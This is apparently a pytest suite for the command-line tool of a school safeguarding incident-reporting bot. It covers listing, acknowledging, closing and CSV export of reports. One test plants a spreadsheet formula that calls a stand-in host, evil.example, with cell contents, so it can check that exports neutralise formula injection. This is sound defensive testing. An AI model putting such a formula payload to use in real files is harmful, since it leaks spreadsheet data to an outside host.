"""`policybot incidents ...` as the DSL runs it: a real process and a real database."""

from __future__ import annotations

import csv
import io
import json

import pytest

from bot.cli.incidents import EXPORT_FIELDS
from bot.incidents.service import IncidentService
from bot.settings import Settings
from tests.support.cli import policybot
from tests.support.incidents import draft


@pytest.fixture
def db(tmp_path):
    url = f"sqlite:///{tmp_path / 'incidents.sqlite3'}"
    service = IncidentService(Settings(DATABASE_URL=url))
    first = service.submit(draft(), "a").reference
    second = service.submit(draft(category="cyberbullying", immediate_danger=True, description="Group chat messages",
                                  people_text="two Year 6 pupils"), "b").reference
    return {"DATABASE_URL": url}, first, second


def run(env, *args):
    result = policybot("incidents", *args, env=env)
    return result.returncode, result.stdout.decode(), result.stderr.decode()


def test_list_show_ack_close_and_filter(db):
    env, first, second = db
    code, out, _ = run(env, "list")
    assert code == 0 and first in out and second in out and "YES" in out
    code, out, _ = run(env, "list", "--json")
    assert [r["reference"] for r in json.loads(out)] == [first, second]
    assert run(env, "ack", first, "--by", "dsl.jones")[1].strip() == f"{first} is now acknowledged."
    assert run(env, "close", first, "--by", "dsl.jones", "--note", "Spoke to the family.")[0] == 0
    code, out, _ = run(env, "list", "--status", "open", "--json")
    assert [r["reference"] for r in json.loads(out)] == [second]
    details = json.loads(run(env, "show", first, "--json")[1])
    assert details["status"] == "closed" and details["action_taken"] == "Spoke to the family."
    assert [(a["action"], a["who"]) for a in details["audit"]][1:] == [
        ("acknowledged", "cli:dsl.jones"), ("closed", "cli:dsl.jones")]
    code, out, _ = run(env, "show", second)
    assert code == 0 and "Group chat messages" in out and "Audit trail:" in out


def test_export_csv_in_safeguarding_record_order(db):
    env, first, second = db
    run(env, "close", first, "--note", "Blocked and reported to the head.")
    code, out, _ = run(env, "export", "--format", "csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert code == 0 and tuple(rows[0]) == EXPORT_FIELDS
    assert rows[0] == ["Date and time", "Category", "People involved", "What happened", "Action taken",
                       "Reported by", "Reference"]
    assert rows[1][0] == "23/11/2026 15:00" and rows[1][4] == "Blocked and reported to the head."
    assert rows[1][6] == first and rows[2][6] == second and rows[2][2] == "two Year 6 pupils"


@pytest.mark.parametrize("args, words", [
    (("show", "INC-1999-0001"), "No report with reference"),
    (("ack", "INC-1999-0001"), "No report with reference"),
])
def test_unknown_references_are_a_clear_error(db, args, words):
    env, _, _ = db
    code, out, err = run(env, *args)
    assert code == 1 and words in err and "Traceback" not in err


def test_closed_reports_stay_closed(db):
    env, first, _ = db
    run(env, "close", first, "--note", "done")
    code, _, err = run(env, "ack", first)
    assert code == 1 and "already closed" in err


def test_a_database_that_is_down_is_one_clear_line():
    code, _, err = run({"DATABASE_URL": "postgresql+psycopg://nobody@127.0.0.1:1/none"}, "list")
    assert code == 1 and err.startswith("error: the database at postgresql+psycopg://nobody@127.0.0.1:1/none")
    assert "Traceback" not in err


def test_export_cells_that_look_like_formulas_are_text(tmp_path):
    url = f"sqlite:///{tmp_path / 'incidents.sqlite3'}"
    IncidentService(Settings(DATABASE_URL=url)).submit(draft(
        description='=HYPERLINK("http://evil.example/?"&A1,"Click")', people_text="+44 7700 900000",
        reporter_name="@admin"), "f")
    code, out, _ = run({"DATABASE_URL": url}, "export", "--format", "csv")
    row = list(csv.reader(io.StringIO(out)))[1]
    assert code == 0
    assert row[3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" and row[2] == "'+44 7700 900000"
    assert row[5].startswith("'@admin")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("value, shown", [("=1+2", "'=1+2"), ("-3", "'-3"), ("\tx", "'\tx"), ("plain", "plain"),
                                          ("", ""), (7, 7)])
def test_a_formula_start_is_neutralised(value, shown):
    from bot.cli.spreadsheet import as_text_cell

    assert as_text_cell(value) == shown
